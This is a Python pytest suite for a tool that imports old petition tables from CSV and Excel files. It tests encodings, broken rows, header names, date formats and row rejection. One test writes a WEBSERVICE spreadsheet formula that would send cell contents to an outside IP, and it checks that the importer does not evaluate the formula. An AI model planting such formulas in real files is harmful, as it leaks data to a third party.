"""Tables of the past as people have them: encodings, headers, and what is no row of a table."""

from __future__ import annotations

import tracemalloc
from datetime import datetime
from itertools import chain, repeat
from pathlib import Path

import pytest
from openpyxl import Workbook

from core.clock import LOCAL
from core.errors import Invalid
from intake.importing import columns, tables
from intake.importing.rows import PastPetition, RowRejected, parse
from tests.conftest import AT
from tests.intake.past import HEADER, row, table

COLUMNS = {"id": 0, "user": 1, "time": 2, "title": 3, "body": 4, "reply": 5, "reply_time": 6}


def read(path: Path) -> list[tuple[int, list[str], str]]:
    return [(line.number, line.cells, line.fault) for line in tables.lines(path)]


def petition(*cells: str) -> PastPetition:
    return parse(cells, COLUMNS, AT)


# --- files ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "gb18030"])
def test_a_csv_in_each_encoding_in_use(tmp_path: Path, encoding: str) -> None:
    path = table(tmp_path / "a.csv", [row(1, body="镕基、喆、𠮷：路灯\n不亮，共“三”盏")], encoding=encoding)
    assert [line.cells for line in tables.lines(path)] == [
        list(HEADER),
        list(row(1, body="镕基、喆、𠮷：路灯\n不亮，共“三”盏")),
    ]


def test_a_workbook(tmp_path: Path) -> None:
    book = Workbook()
    book.active.append(HEADER)
    book.active.append([7, "甲", datetime(2025, 3, 4, 9, 30), "题", "文", None, None])
    book.save(tmp_path / "a.xlsx")
    assert read(tmp_path / "a.xlsx")[1] == (2, ["7", "甲", "2025-03-04 09:30:00", "题", "文", "", ""], "")


def test_a_formula_gives_what_was_stored_or_nothing(tmp_path: Path) -> None:
    book = Workbook()
    book.active.append(HEADER)
    book.active.append(["1", "甲", "2025-03-04", "题", '=WEBSERVICE("http://198.51.100.1/"&A1)', None, None])
    book.save(tmp_path / "a.xlsx")
    (_header, line) = tables.lines(tmp_path / "a.xlsx")
    assert line.cells[4] == ""


def test_numbers_are_those_of_the_file(tmp_path: Path) -> None:
    path = table(tmp_path / "a.csv", [row(1, body="两\n行"), row(2)])
    assert [number for number, _cells, _fault in read(path)] == [1, 2, 4]


def test_a_mangled_row_costs_no_other(tmp_path: Path) -> None:
    whole = table(tmp_path / "a.csv", [row(number) for number in range(1, 6)]).read_text().splitlines(keepends=True)
    whole[2] = '2,甲,2025-03-02,题,"引号没有关上\n'
    (tmp_path / "a.csv").write_text("".join(whole))
    found = read(tmp_path / "a.csv")
    assert [cells[0] for _number, cells, fault in found if not fault] == ["编号", "1", "3", "4", "5"]
    ((number, cells, fault),) = [line for line in found if line[2]]
    assert (number, "引号" in fault) == (3, True)
    assert cells == ['2,甲,2025-03-02,题,"引号没有关上']


def test_a_quote_that_closes_in_a_later_row_swallows_none(tmp_path: Path) -> None:
    lines = ["编号,留言时间,留言详情\n", '1,2025-03-01,"没有关上\n', '2,2025-03-02,"关上了"\n', "3,2025-03-03,好\n"]
    (tmp_path / "a.csv").write_text("".join(lines))
    assert [cells[0] for _number, cells, fault in read(tmp_path / "a.csv") if not fault] == ["编号", "2", "3"]


def test_null_characters_and_broken_bytes(tmp_path: Path) -> None:
    good = table(tmp_path / "a.csv", [row(1, body="路灯\0不亮"), row(2)]).read_bytes()
    (tmp_path / "a.csv").write_bytes(good.replace("第2条街的".encode(), b"\xff\xfe\xfa"))
    found = read(tmp_path / "a.csv")
    assert found[1][1][4] == "路灯不亮"
    assert "编码" in found[2][2]


def test_a_line_without_end_is_one_fault(tmp_path: Path) -> None:
    path = table(tmp_path / "a.csv", [row(1), row(2, body="长" * 3_000_000), row(3)])
    found = read(path)
    assert [cells[0] for _number, cells, fault in found if not fault] == ["编号", "1", "3"]
    (fault,) = [fault for _number, _cells, fault in found if fault]
    assert "过长" in fault
    assert max(len(cell) for _number, cells, _fault in found for cell in cells) <= 300_000


@pytest.mark.parametrize("name", ["a.pdf", "a.xls", "a"])
def test_another_kind_of_file_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(b"%PDF-1.7")
    with pytest.raises(Invalid) as caught:
        list(tables.lines(tmp_path / name))
    assert ".xlsx" in caught.value.fields["file"]


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_what_only_has_the_name_of_a_table_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(b"PK\x03\x04" + b"\x00" * 200)
    with pytest.raises(Invalid):
        list(tables.lines(tmp_path / name))


def test_a_file_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(Invalid) as caught:
        tables.lines(tmp_path / "none.csv")
    assert "none.csv" in caught.value.fields["file"]


def test_memory_does_not_grow_with_the_file(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    with path.open("w", encoding="utf-8") as file:
        file.writelines(chain(["编号,时间,内容\n"], repeat(f"1,2025-03-01,{'路灯不亮' * 250}\n", 10_000)))
    assert path.stat().st_size > 30_000_000
    tracemalloc.start()
    assert sum(1 for line in tables.lines(path) if not line.fault) == 10_001
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 6_000_000


# --- headers ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        "id,user,time,title,body,reply,reply_time",
        "ID,User,Created At,Subject,Content,Answer,Answered-At",
        "编号,用户,时间,标题,内容,答复,答复时间",
        "工单编号,姓名,来电时间,诉求标题,诉求内容,办理结果,办结时间",
        "\ufeff留言编号,留言用户,留言时间,留言主题,留言详情,答复意见,答复时间",
        "信访编号,信访人,登记时间,主 题,问题描述*,回复,回复时间",
        "信件编号,来信人,来信时间,来信标题,来信内容,回复内容,回复时间",
    ],
)
def test_usual_names(header: str) -> None:
    found = columns.recognise(header.split(","))
    wanted = {"id": 0, "time": 2, "title": 3, "body": 4, "reply": 5, "reply_time": 6}
    assert {field: found.get(field) for field in wanted} == wanted
    assert 1 in (found.get("user"), found.get("name"))


def test_a_mapping_goes_before_the_usual_names() -> None:
    found = columns.recognise(["内容", "原文", "何时"], {"body": "原文", "time": "何时"})
    assert (found["body"], found["time"]) == (1, 2)


@pytest.mark.parametrize(
    ("header", "mapping", "words"),
    [
        ("编号,标题", {}, ("必需的列", "--map time=列名", "“内容”")),
        ("编号,时间,内容", {"body": "正文"}, ("正文", "--map")),
        ("编号,时间,内容", {"text": "内容"}, ("text", "reply_time")),
    ],
)
def test_a_header_that_does_not_do_is_told_how(header: str, mapping: dict[str, str], words: tuple[str, ...]) -> None:
    with pytest.raises(Invalid) as caught:
        columns.recognise(header.split(","), mapping)
    (sentence,) = caught.value.fields.values()
    assert [word for word in words if word not in sentence] == []


# --- rows -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("2019/4/25 9:32:09", datetime(2019, 4, 25, 9, 32, 9, tzinfo=LOCAL)),
        ("2019-04-25", datetime(2019, 4, 25, tzinfo=LOCAL)),
        ("2019-04-25T09:32:09.123456", datetime(2019, 4, 25, 9, 32, 9, tzinfo=LOCAL)),
        ("2019-04-25T01:32:09Z", datetime(2019, 4, 25, 9, 32, 9, tzinfo=LOCAL)),
        ("2019年4月25日 9时32分", datetime(2019, 4, 25, 9, 32, tzinfo=LOCAL)),
        ("2019.4.25 09：32", datetime(2019, 4, 25, 9, 32, tzinfo=LOCAL)),
    ],
)
def test_moments(text: str, wanted: datetime) -> None:
    assert petition("1", "", text, "题", "文", "", "").received_at == wanted


@pytest.mark.parametrize(
    ("cells", "word"),
    [
        ((*row(1)[:2], "", *row(1)[3:]), "时间是空的"),
        (row(1, time="昨天"), "看不懂"),
        (row(1, time="2025-02-30"), "不是真实的日期"),
        (row(1, time="2027-01-01"), "今天之后"),
        (row(1, reply="已办", reply_time="2024-01-01"), "早于"),
        (row(1, body="长" * 70_000), "70000 字"),
        (row(1, reply="长" * 70_000), "70000 字"),
        (("1", "", "2025-03-01", " ", "\0", "", ""), "都是空的"),
    ],
)
def test_a_row_that_can_not_be_taken_says_why(cells: tuple[str, ...], word: str) -> None:
    with pytest.raises(RowRejected, match=word):
        petition(*cells)


def test_a_row_without_an_id_is_known_by_what_stands_in_it() -> None:
    once, again = petition("", *row(1)[1:]), petition("", *row(1)[1:])
    assert once.key == again.key and once.key.startswith("row.")
    assert petition("", *row(2)[1:]).key != once.key


def test_ids_that_are_long_stay_apart() -> None:
    first, second = (petition("9" * 150 + end, *row(1)[1:]) for end in "12")
    assert first.key != second.key and len(first.key) <= 100


def test_a_title_is_made_from_the_text() -> None:
    cells = ("1", "", "2025-03-01", "", "领导您好，青石路路灯不亮已经三天。请修一修。", "", "")
    assert petition(*cells).title == "青石路路灯不亮已经三天"
